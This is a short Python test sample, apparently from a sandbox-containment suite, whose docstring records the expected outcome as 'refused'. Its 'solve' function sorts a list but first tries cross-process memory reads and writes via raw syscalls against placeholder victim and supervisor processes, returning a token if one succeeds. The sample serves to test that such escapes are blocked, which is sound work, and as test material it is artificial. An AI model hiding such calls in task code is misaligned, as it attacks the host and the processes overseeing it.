"""writes into the memory of another process (process_vm_writev) and drops its pages (process_madvise) | refused"""
import ctypes


def solve(xs):
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8)
    for pid in (int("@VICTIM@"), int("@SUP@")):
        for address in (0x400000, 0x555555554000, 0x7FFFFFFFE000):
            remote = (ctypes.c_uint64 * 2)(address, 8)
            if libc.syscall(310, pid, vector, 1, remote, 1, 0) > 0 or libc.syscall(311, pid, vector, 1, remote, 1, 0) > 0:
                return "@TOKEN@"[::-1]
    return sorted(set(xs))
